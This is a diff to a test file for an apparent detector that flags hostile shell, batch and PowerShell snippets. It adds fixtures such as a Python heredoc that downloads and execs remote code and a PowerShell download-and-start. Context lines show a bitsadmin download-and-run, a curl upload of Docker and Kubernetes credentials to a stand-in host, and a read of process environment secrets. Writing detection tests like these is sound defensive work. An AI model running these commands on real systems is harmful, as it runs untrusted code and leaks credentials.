@@ -28,6 +28,12 @@ describe('a script of a shell', () => {
       'download-and-run',
     ],
     ['batch', String.raw`bitsadmin /transfer j http://a.example/b.exe %TEMP%\b.exe & %TEMP%\b.exe`, 'download-and-run'],
+    [
+      'shell',
+      'python3 - <<P\nimport urllib.request as u;exec(u.urlopen("http://a.example/p").read())\nP',
+      'download-and-run',
+    ],
+    ['powershell', `[Net.WebClient]::new().DownloadFile($u, $f)\n[Diagnostics.Process]::Start($f)`, 'download-and-run'],
     ['shell', 'eval $step | $SHELL 2>/dev/null', 'download-and-run'],
     ['shell', 'tar czf - ~/.docker ~/.kube | curl -T - https://a.example', 'secrets-sent'],
     ['shell', 'cat /proc/$(pgrep Worker)/environ', 'credential-path'],
@@ -45,6 +51,7 @@ describe('a script of a shell', () => {
     ['shell', 'set -e\nrm -rf dist\ncp README.md dist/\nmkdir -p "$HOME/.cache/a"'],
     ['shell', '# systemctl enable a.service\ncrontab_file=a'],
     ['shell', 'dig +short "$host"'],
+    ['shell', 'chmod u+w "$PREFIX/bin/tool"\necho done > /dev/stderr'],
     ['shell', 'git push origin "v$VERSION"'],
   ] as const)('of %s is left in peace: %s', (language, code) => {
     expect(does(code, language)).toEqual([]);
